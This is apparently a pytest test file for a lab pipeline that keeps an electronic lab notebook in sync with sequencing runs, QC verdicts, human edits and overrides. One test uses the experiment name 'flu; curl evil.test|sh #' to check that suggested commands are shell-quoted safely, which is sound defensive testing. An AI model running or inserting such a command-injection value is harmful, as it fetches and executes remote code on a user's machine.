"""A lab's notebook knows of each run from its first sign to its verdict, and the lab knows what the notebook says."""

import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import select, update
from tiny_run import EXPERIMENT, TinyLab, announcement

sys.path.insert(0, str(Path(__file__).parents[1] / "records" / "eln"))

from fake import FakeNotebook, Hands, killed_at

from labrelay.cli.eln import told
from labrelay.cli.main import labrelay as command
from labrelay.model.errors import Busy, RefusedInput, UsageError
from labrelay.model.qc import Verdict
from labrelay.records import audit, lease
from labrelay.records.delivery import Undeliverable
from labrelay.records.schema import (
    AuditRow,
    ExperimentRow,
    LeaseRow,
    OutboxRow,
    SampleRevisionRow,
    SampleRow,
    WorkflowRunRow,
)
from labrelay.steps import eln, eln_news
from labrelay.steps.announce import announce
from labrelay.steps.deliver import deliver
from labrelay.steps.eln_news import pull
from labrelay.steps.home import Home
from labrelay.steps.override import override_verdict
from labrelay.steps.process import process
from labrelay.steps.results import show_result
from labrelay.steps.sweep import sweep
from labrelay.steps.verify import verify_run

SETTINGS = 'sandbox = "host"\neln = "fake"\neln_url = "https://notebook.test"\neln_token = "secret"\nbase_url = "https://lab.test"\n'


@pytest.fixture
def notebook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeNotebook:
    made = FakeNotebook(tmp_path / "notebook")
    monkeypatch.setattr("labrelay.steps.adapters.open_notebook", lambda kind, account: made)
    return made


@pytest.fixture
def hands(notebook: FakeNotebook) -> Hands:
    return Hands(notebook)


@pytest.fixture
def lab(tmp_path: Path, notebook: FakeNotebook) -> TinyLab:
    return TinyLab(tmp_path / "lab", settings=SETTINGS)


@pytest.fixture
def home(lab: TinyLab) -> Iterator[Home]:
    opened = lab.open()
    yield opened
    opened.close()


def opened_with(lab: TinyLab, settings: str) -> Home:
    (lab.home / "labrelay.toml").write_text(f'sandbox = "host"\n{settings}')
    return lab.open()


def lines(hands: Hands, external_id: str = "1") -> dict[str, str]:
    """The states in an entry's status part, by subject."""
    import json

    part = json.loads(hands.entries()[external_id]["parts"]["status"])
    return {line["subject"]: line["state"] for line in part["lines"]}


def part(hands: Hands, name: str) -> Any:
    import json

    return json.loads(hands.entries()["1"]["parts"][name])


def announce_more(home: Home, lab: TinyLab) -> None:
    """Announce one sample more, so that the entry has to say something else."""
    announce(home, announcement(lab.root / "more.csv", ("gamma",)))


def lose_leases(home: Home) -> None:
    """What sixty seconds of sleep do."""
    with home.records.write() as session:
        session.execute(update(LeaseRow).values(until="2000-01-01"))


def due_now(home: Home) -> None:
    with home.records.write() as session:
        session.execute(update(OutboxRow).values(not_before="2000-01-01"))


def test_it_is_told_from_the_announcement_to_the_verdict(home: Home, lab: TinyLab, hands: Hands) -> None:
    announce(home, lab.table)
    deliver(home)
    assert lines(hands) == {"alpha": "announced", "beta": "announced"}
    process(home, lab.run)
    assert lines(hands) == {lab.run.name: "received", "alpha": "done", "beta": "done"}
    results = part(hands, "results")
    assert [(j["sample"], j["verdict"]) for j in results["judgements"]] == [("alpha", "pass"), ("beta", "warn")]
    assert [(r["sample"], r["label"], r["value"]) for r in results["rows"]] == [
        ("alpha", "Read pairs", 50.0),
        ("beta", "Read pairs", 30.0),
    ]
    assert part(hands, "links")["links"][0]["url"].startswith("https://lab.test/experiments/exp_")
    files = [name for name in hands.entries()["1"]["parts"] if name.startswith("file:")]
    assert {name.rsplit("-", 1)[-1] for name in files} >= {"report.html", "crate.json", "file:results.csv"}
    assert len(hands.entries()) == 1


def test_the_second_processing_tells_nothing_new(home: Home, lab: TinyLab, hands: Hands) -> None:
    announce(home, lab.table)
    process(home, lab.run)
    written = hands.writes()
    process(home, lab.run)
    assert eln.reconcile(home).repaired == 0
    assert hands.writes() == written


def test_a_refused_run_is_in_the_entry_with_its_reason(home: Home, lab: TinyLab, hands: Hands) -> None:
    announce(home, lab.table)
    (lab.run / "RTAComplete.txt").unlink()
    with pytest.raises(RefusedInput):
        process(home, lab.run)
    assert lines(hands)[lab.run.name] == "refused"
    text = next(line["text"] for line in part(hands, "status")["lines"] if line["state"] == "refused")
    assert "--assume-complete" in text


def test_a_run_that_waits_is_seen_by_the_watch_and_told(lab: TinyLab, hands: Hands, notebook: FakeNotebook) -> None:
    from labrelay.steps.watch import scan

    home = opened_with(lab, f'{SETTINGS[17:]}landing = ["{lab.run.parent}"]\nquiet_minutes = 0\n')
    announce(home, lab.table)
    (lab.run / "RTAComplete.txt").unlink()
    for _look in range(3):
        scan(home)
    deliver(home)
    assert lines(hands)[lab.run.name] == "waiting"
    home.close()


def test_a_sample_whose_reads_did_not_come_is_said(home: Home, lab: TinyLab, hands: Hands, tmp_path: Path) -> None:
    announce(home, lab.table)
    for file in lab.run.rglob("beta_S2*"):
        file.unlink()
    process(home, lab.run)
    assert lines(hands)["beta"] == "no reads"
    assert lines(hands)["alpha"] == "done"


def test_a_failed_run_is_said_with_its_reason(home: Home, lab: TinyLab, hands: Hands) -> None:
    rules = lab.home / "rules.toml"
    rules.write_text(rules.read_text() + "broken = true\n")
    announce(home, lab.table)
    process(home, lab.run)
    assert lines(hands)["alpha"] == "failed"


def test_a_notebook_that_is_down_for_a_day_is_told_afterwards(
    home: Home, lab: TinyLab, hands: Hands, notebook: FakeNotebook
) -> None:
    announce(home, lab.table)
    notebook.answers["find"] = [Undeliverable("nobody answered", retry=True)] * 30
    for _try in range(30):
        deliver(home)
        due_now(home)
    assert eln.status(home).why == "nobody answered"
    assert deliver(home).waiting == 0
    assert lines(hands) == {"alpha": "announced", "beta": "announced"}


def test_a_notebook_that_asks_to_wait_is_left_alone(home: Home, lab: TinyLab, notebook: FakeNotebook) -> None:
    announce(home, lab.table)
    notebook.answers["find"] = [Undeliverable("busy", retry=True, retry_after=5000)]
    deliver(home)
    with home.records.read() as session:
        row = session.scalars(select(OutboxRow)).one()
    from datetime import UTC, datetime

    assert (datetime.fromisoformat(row.not_before) - datetime.now(UTC)).total_seconds() > 4900


def test_what_was_given_up_is_told_by_the_next_comparison(
    home: Home, lab: TinyLab, hands: Hands, notebook: FakeNotebook
) -> None:
    announce(home, lab.table)
    notebook.answers["find"] = [Undeliverable("the token has expired", retry=False)]
    deliver(home)
    found = eln.status(home)
    assert (found.dead, found.why) == (1, "the token has expired")
    assert sweep(home).entries == 2
    assert eln.status(home).dead == 0


def override_and_pages(home: Home) -> str:
    """Set beta's verdict, which posts that the pages are to be written again; return the results table of now."""
    override_verdict(home, "beta", Verdict.FAIL, "a swapped tube")
    return (home.path / "results" / EXPERIMENT / "results.csv").read_text()


def test_a_comparison_that_comes_before_the_delivery_writes_the_pages_as_well(
    home: Home, lab: TinyLab, hands: Hands
) -> None:
    announce(home, lab.table)
    process(home, lab.run)
    assert "a swapped tube" not in override_and_pages(home)
    assert eln.reconcile(home).problems == []
    assert eln.status(home).messages == 0
    assert "a swapped tube" in (home.path / "results" / EXPERIMENT / "results.csv").read_text()
    assert [j["verdict"] for j in part(hands, "results")["judgements"]] == ["pass", "fail"]


def test_an_entry_that_is_left_to_people_costs_no_page(home: Home, lab: TinyLab, hands: Hands) -> None:
    announce(home, lab.table)
    process(home, lab.run)
    hands.close("1", "deleted")
    assert "was deleted there" in eln.reconcile(home).problems[0]
    assert "a swapped tube" not in override_and_pages(home)
    eln.settle(home, EXPERIMENT, "entry", "theirs")
    assert eln.status(home).messages + eln.status(home).dead == 0
    assert "a swapped tube" in (home.path / "results" / EXPERIMENT / "results.csv").read_text()


def test_a_persons_edit_is_shown_by_status_and_settled_by_one_command(
    home: Home, lab: TinyLab, hands: Hands, monkeypatch: pytest.MonkeyPatch
) -> None:
    announce(home, lab.table)
    deliver(home)
    hands.edit("1", "status")
    announce_more(home, lab)
    deliver(home)
    run = CliRunner()
    shown = run.invoke(command, ["--home", str(home.path), "status"]).output
    assert f"status of {EXPERIMENT} was changed by a person: what a person wrote" in shown
    settle = ["--home", str(home.path), "eln", "settle", EXPERIMENT, "status", "--keep", "ours"]
    assert "status written" in run.invoke(command, settle).output
    assert lines(hands)["gamma"] == "announced"
    assert "was changed" not in run.invoke(command, ["--home", str(home.path), "eln", "status"]).output
    with home.records.read() as session:
        settled = session.scalars(select(AuditRow).where(AuditRow.action == "eln.settled")).one()
    assert settled.detail == {"system": "fake", "part": "status", "keep": "ours"}


def test_an_edit_that_nobody_was_shown_is_shown_before_it_is_written_over(
    home: Home, lab: TinyLab, hands: Hands, notebook: FakeNotebook
) -> None:
    announce(home, lab.table)
    deliver(home)
    hands.edit("1", "status")
    announce_more(home, lab)
    deliver(home)
    with notebook.state() as state:
        state["entries"]["1"]["parts"]["status"] = "a second edit"
    with pytest.raises(UsageError, match="after it was last looked at and reads now: a second edit; the same command"):
        eln.settle(home, EXPERIMENT, "status", "ours")
    assert hands.entries()["1"]["parts"]["status"] == "a second edit"
    [shown] = eln.status(home).parts
    assert (shown.state, shown.text) == ("conflict", "a second edit")
    eln.settle(home, EXPERIMENT, "status", "ours")
    assert lines(hands)["gamma"] == "announced"


def test_a_locked_entry_is_not_made_anew(home: Home, lab: TinyLab, hands: Hands) -> None:
    announce(home, lab.table)
    deliver(home)
    hands.close("1", "locked")
    announce_more(home, lab)
    deliver(home)
    with pytest.raises(UsageError, match="refuses changes: unlock it there"):
        eln.settle(home, EXPERIMENT, "entry", "ours")
    eln.settle(home, EXPERIMENT, "entry", "theirs")
    hands.close("1", "open")
    eln.settle(home, EXPERIMENT, "entry", "ours")
    assert list(hands.entries()) == ["1"]
    assert lines(hands)["gamma"] == "announced"


def test_a_part_that_is_left_to_people_is_not_written_again(home: Home, lab: TinyLab, hands: Hands) -> None:
    announce(home, lab.table)
    deliver(home)
    hands.edit("1", "status")
    eln.reconcile(home)
    eln.settle(home, EXPERIMENT, "status", "theirs")
    announce_more(home, lab)
    assert deliver(home).waiting == 0
    assert hands.entries()["1"]["parts"]["status"] == "what a person wrote"
    eln.settle(home, EXPERIMENT, "status", "ours")
    assert lines(hands)["gamma"] == "announced"


def test_settling_what_is_in_order_is_a_mistake(home: Home, lab: TinyLab) -> None:
    announce(home, lab.table)
    deliver(home)
    with pytest.raises(UsageError, match="nothing to settle"):
        eln.settle(home, EXPERIMENT, "status", "ours")


def test_a_deleted_entry_is_made_anew_or_left_as_a_person_says(home: Home, lab: TinyLab, hands: Hands) -> None:
    announce(home, lab.table)
    deliver(home)
    hands.close("1", "deleted")
    problem = eln.reconcile(home).problems[0]
    assert "was deleted there" in problem
    eln.settle(home, EXPERIMENT, "entry", "theirs")
    announce_more(home, lab)
    deliver(home)
    assert len(hands.entries()) == 1
    assert eln.status(home).messages + eln.status(home).dead == 0
    eln.settle(home, EXPERIMENT, "entry", "ours")
    assert [e["identifier"][-2:] for e in hands.entries().values()][1:] == ["-2"]
    assert lines(hands, "2")["gamma"] == "announced"


@pytest.mark.parametrize("point", ["eln.made", "eln.linked", "eln.intended", "eln.written", "eln.told", "deliver.told"])
def test_a_delivery_killed_anywhere_is_made_up_for(home: Home, lab: TinyLab, hands: Hands, point: str) -> None:
    announce(home, lab.table)
    home.records.close()
    killed_at(point, lambda: deliver(home))
    assert deliver(home).waiting == 0
    assert len(hands.entries()) == 1
    assert lines(hands) == {"alpha": "announced", "beta": "announced"}
    assert hands.writes().count("status") == 1


def test_what_the_notebook_announces_becomes_an_experiment_and_an_edit_a_revision(home: Home, hands: Hands) -> None:
    hands.announce("7", "study-7", {"s1": "ACGTACGT", "s2": ""}, title="The seventh")
    assert [sorted(t.added) for t in pull(home).taken] == [["s1", "s2"]]
    assert pull(home).heard == 0
    hands.announce("7", "study-7", {"s1": "ACGTACGA", "s2": "", "s3": ""}, title="The 7th")
    [taken] = pull(home).taken
    assert (taken.corrected, taken.added, taken.unchanged) == (["s1"], ["s3"], ["s2"])
    with home.records.read() as session:
        experiment = session.scalars(select(ExperimentRow)).one()
        reasons = session.execute(
            select(SampleRevisionRow.revision, SampleRevisionRow.reason)
            .join(SampleRow, SampleRow.id == SampleRevisionRow.sample_id)
            .where(SampleRow.name == "s1")
        ).all()
        assert list(audit.broken_links(session)) == []
    assert (experiment.title, experiment.external_id) == ("The 7th", "7")
    assert reasons[1] == (2, "edited in Fake notebook, entry 7 by ada")


def test_an_announced_experiment_is_told_in_the_entry_that_announced_it(home: Home, hands: Hands) -> None:
    hands.announce("7", "study-7", {"s1": ""})
    pull(home)
    deliver(home)
    assert list(hands.entries()) == ["7"]
    assert lines(hands, "7") == {"s1": "announced"}


def test_two_experiments_of_one_name_are_not_merged_before_a_person_says_so(
    home: Home, lab: TinyLab, hands: Hands
) -> None:
    announce(home, lab.table)
    hands.announce("7", EXPERIMENT, {"alpha": "", "gamma": ""})
    [(entry, reason)] = pull(home).waiting
    assert entry == "7"
    assert f"labrelay eln link {EXPERIMENT} 7" in reason
    assert pull(home).waiting == [(entry, reason)]
    assert eln.status(home).waiting[0].problem == reason
    with home.records.read() as session:
        assert {row.name for row in session.scalars(select(SampleRow))} == {"alpha", "beta"}
    eln.link(home, EXPERIMENT, "7")
    [taken] = pull(home).taken
    assert taken.added == ["gamma"]
    hands.announce("8", EXPERIMENT, {"delta": ""})
    assert "the entry 7 announces one of this name" in pull(home).waiting[0][1]


def test_one_bad_entry_does_not_keep_the_others_from_being_compared(
    home: Home, hands: Hands, notebook: FakeNotebook, monkeypatch: pytest.MonkeyPatch
) -> None:
    for n in range(1, 6):
        hands.announce(str(n), f"study-{n}", {"s": ""})
    pull(home)
    deliver(home)
    for n in range(1, 6):
        hands.remove(str(n), "status")
    real, asked, bad = notebook.read, [], {"1": Undeliverable("it answered 500", retry=True), "2": TypeError("none")}

    def read(external_id: str) -> Any:
        asked.append(external_id)
        if external_id in bad:
            raise bad[external_id]
        return real(external_id)

    monkeypatch.setattr(notebook, "read", read)
    done = eln.reconcile(home)
    assert (done.looked, done.repaired) == (3, 3)
    assert done.problems[0] == "it answered 500"
    assert "an unexpected error stopped it (TypeError), see the log" in done.problems[1]
    eln.reconcile(home, most=3)
    bad |= {str(n): Undeliverable("it answered 500", retry=True) for n in range(1, 6)}
    asked.clear()
    assert eln.reconcile(home, most=5).looked == 0
    assert asked[:2] != ["1", "2"], "those that failed have had their turn"
    assert len(asked) == 3, "three in a row: it is not the entries"
    bad |= {str(n): Undeliverable("nobody answered", retry=True, down=True) for n in range(1, 6)}
    asked.clear()
    eln.reconcile(home)
    assert len(asked) == 1


def test_an_error_that_nobody_thought_of_stops_neither_the_pull_nor_the_sweep(
    home: Home, hands: Hands, notebook: FakeNotebook, monkeypatch: pytest.MonkeyPatch
) -> None:
    def stumbles(*_given: object) -> Any:
        raise TypeError("string indices must be integers")

    for n in "12":
        hands.announce(n, f"study-{n}", {"s": ""})
    real = eln_news._announce
    monkeypatch.setattr(
        eln_news, "_announce", lambda *given: stumbles() if given[2].external_id == "1" else real(*given)
    )
    done = pull(home)
    assert [taken.experiment.name for taken in done.taken] == ["study-2"]
    assert [entry for entry, _reason in done.waiting] == ["1"]
    assert eln.status(home).waiting[0].problem == done.waiting[0][1]
    assert "an unexpected error stopped it (TypeError), see the log" in done.waiting[0][1]
    monkeypatch.setattr(notebook, "announced_since", stumbles)
    swept = sweep(home)
    assert "the sweep's part pull was stopped by an unexpected error (TypeError): see the log" in swept.problems
    assert swept.entries == 2, "the comparison went on"


def test_the_commands_that_are_suggested_hold_no_text_that_a_shell_would_run(home: Home, hands: Hands) -> None:
    name = "flu; curl evil.test|sh #"
    for entry in ("9", "8"):
        hands.announce(entry, name, {"x": ""})
    [(_entry, reason)] = pull(home).waiting
    assert f"`labrelay eln link '{name}' 8`" in reason
    deliver(home)
    hands.edit("9", "status")
    eln.reconcile(home)
    assert f"labrelay eln settle '{name}' status --keep" in told(eln.status(home))[0]
    hands.close("9", "deleted")
    assert f"`labrelay eln settle '{name}' entry --keep ours`" in eln.reconcile(home).problems[0]


def test_an_edit_that_is_taken_back_is_told_again(home: Home, hands: Hands, notebook: FakeNotebook) -> None:
    def edited(version: str) -> int:
        hands.announce("7", "study-7", {"s": ""}, title=f"Title {version}")
        with notebook.state() as state:
            state["announced"][0]["version"] = version  # as of a notebook that hashes what it announces
        assert len(pull(home).taken) == 1
        waiting = eln.status(home).messages
        deliver(home)
        return waiting

    assert [edited(version) for version in "ABA"] == [1, 1, 1]


def test_a_sample_that_is_gone_from_the_entry_stays_here(home: Home, hands: Hands) -> None:
    hands.announce("7", "study-7", {"s1": "", "s2": ""})
    pull(home)
    hands.announce("7", "study-7", {"s1": ""})
    assert pull(home).left == ["s2 is no longer in Fake notebook 7; it stays here"]


def test_a_pull_that_slept_past_its_lease_does_not_put_the_older_over_the_newer(
    home: Home, hands: Hands, notebook: FakeNotebook, monkeypatch: pytest.MonkeyPatch
) -> None:
    hands.announce("7", "study-7", {"s1": "ACGTACGT"})
    real = notebook.announced_since

    def sleeps(cursor: str | None) -> Any:
        heard = real(cursor)
        monkeypatch.setattr(notebook, "announced_since", real)
        lose_leases(home)
        hands.announce("7", "study-7", {"s1": "ACGTACGA"})
        assert len(pull(home).taken) == 1
        return heard

    monkeypatch.setattr(notebook, "announced_since", sleeps)
    with pytest.raises(Busy, match="taken over"):
        pull(home)
    assert pull(home).taken == []
    with home.records.read() as session:
        assert [row.content["barcode"] for row in session.scalars(select(SampleRevisionRow))] == ["ACGTACGA"]


def test_a_pull_that_sleeps_between_hearing_and_taking_over_stops(
    home: Home, hands: Hands, monkeypatch: pytest.MonkeyPatch
) -> None:
    hands.announce("7", "study-7", {"s1": ""})

    def sleeps(point: str) -> None:
        if point == "eln.heard":
            lose_leases(home)
            lease.acquire(home.records, "the news of Fake notebook")

    monkeypatch.setattr(eln_news, "faultpoint", sleeps)
    with pytest.raises(Busy, match="taken over"):
        pull(home)
    with home.records.read() as session:
        assert session.scalars(select(ExperimentRow)).all() == []


def test_what_an_entry_shall_say_is_worked_out_by_one_worker_at_a_time(
    home: Home, lab: TinyLab, hands: Hands, monkeypatch: pytest.MonkeyPatch
) -> None:
    announce(home, lab.table)
    deliver(home)
    real, others = eln.wanted_parts, []

    def sleeps(home: Home, experiment_id: str) -> Any:
        made = real(home, experiment_id)
        if not others:
            announce_more(home, lab)
            others.append(experiment_id)
            with pytest.raises(Busy, match="being worked on"):
                eln.tell_notebook(home, experiment_id)
            with pytest.raises(Busy, match="being worked on"):
                eln.settle(home, EXPERIMENT, "status", "ours")
        return made

    monkeypatch.setattr(eln, "wanted_parts", sleeps)
    eln.reconcile(home)
    deliver(home)
    assert others
    assert lines(hands)["gamma"] == "announced"


@pytest.mark.parametrize("point", ["eln.heard", "eln.taken_over"])
def test_a_pull_killed_anywhere_loses_and_doubles_nothing(home: Home, hands: Hands, point: str) -> None:
    hands.announce("7", "study-7", {"s1": ""})
    hands.announce("8", "study-8", {"s1": ""})
    home.records.close()
    killed_at(point, lambda: pull(home))
    pull(home)
    with home.records.read() as session:
        assert sorted(session.scalars(select(ExperimentRow.name))) == ["study-7", "study-8"]
        assert len(session.scalars(select(SampleRevisionRow)).all()) == 2


def test_an_overridden_verdict_is_on_record_and_shown_with_what_was_computed(
    home: Home, lab: TinyLab, hands: Hands
) -> None:
    announce(home, lab.table)
    process(home, lab.run)
    run_id, done = override_verdict(home, "beta", Verdict.PASS, "  enough for\n the question ")
    assert (done.computed, done.reason) == (Verdict.WARN, "enough for the question")
    assert override_verdict(home, "beta", Verdict.PASS, "enough for the question")[1].at == done.at
    deliver(home)
    judged = next(j for j in part(hands, "results")["judgements"] if j["run"] == run_id)
    assert (judged["verdict"], judged["computed"], judged["reason"]) == ("pass", "warn", "enough for the question")
    shown = show_result(home, "beta")
    assert shown.result.verdict is Verdict.PASS
    assert shown.result.override == done
    assert "enough for the question" in (shown.folder / "report.html").read_text()
    table = (home.path / "results" / EXPERIMENT / "results.csv").read_text()
    assert "enough for the question (computed: warn)" in table
    assert verify_run(home, run_id).differing == ()
    again = override_verdict(home, "beta", Verdict.FAIL, "not after all")[1]
    assert again.computed is Verdict.WARN
    with home.records.read() as session:
        assert session.get_one(WorkflowRunRow, run_id).verdict == "fail"
        rows = session.scalars(select(AuditRow).where(AuditRow.action == "verdict.overridden")).all()
    assert [row.detail["verdict"] for row in rows] == ["pass", "fail"]


def test_an_override_without_a_reason_is_refused(home: Home) -> None:
    with pytest.raises(UsageError, match="a reason has to be given"):
        override_verdict(home, "beta", Verdict.PASS, "  ")


def test_the_commands_say_what_they_did(home: Home, lab: TinyLab, hands: Hands, notebook: FakeNotebook) -> None:
    def said(*words: str, code: int = 0) -> str:
        done = CliRunner().invoke(command, ["--home", str(home.path), "eln", *words], standalone_mode=False)
        assert (done.exception, done.return_value or 0) == (None, code), done.output
        return done.output

    assert "the account can do what it has to" in said("check")
    assert "nothing new was announced" in said("pull")
    hands.announce("7", "study-7", {"s1": ""})
    assert "study-7" in said("pull")
    assert "1 entry compared, 2 parts written, 0 conflicts" in said("reconcile")
    announce(home, lab.table)
    hands.announce("8", EXPERIMENT, {"alpha": ""})
    assert "labrelay eln link" in said("pull", code=1)
    assert "hear it with" in said("link", EXPERIMENT, "8")
    assert EXPERIMENT in said("pull")
    notebook.answers["read"] = [Undeliverable("nobody answered", retry=True)]
    assert "nobody answered" in said("reconcile", EXPERIMENT, code=1)
    assert said("reconcile", EXPERIMENT, "--json").startswith("{")
    assert "fake: 2 entries" in said("status")


def test_without_a_notebook_no_signs_are_posted(lab: TinyLab, tmp_path: Path) -> None:
    home = opened_with(lab, "")
    announce(home, lab.table)
    with home.records.read() as session:
        assert session.scalars(select(OutboxRow)).all() == []
    with pytest.raises(UsageError, match="no notebook is set"):
        pull(home)
    home.close()


def test_a_notebook_without_a_token_is_a_mistake_in_the_settings(lab: TinyLab, monkeypatch: Any) -> None:
    home = opened_with(lab, 'eln = "kadi"\neln_url = "https://kadi.test"\n')
    with pytest.raises(UsageError, match="needs eln_url and eln_token"):
        eln.check(home)
    home.close()


def test_a_notebook_that_there_is_not_is_named_with_those_there_are(lab: TinyLab, monkeypatch: Any) -> None:
    monkeypatch.undo()
    home = opened_with(lab, 'eln = "paper"\neln_url = "https://x.test"\neln_token = "t"\n')
    with pytest.raises(UsageError, match=r"there is no notebook paper: eln in the settings is one of archive, .*kadi"):
        eln.check(home)
    home.close()
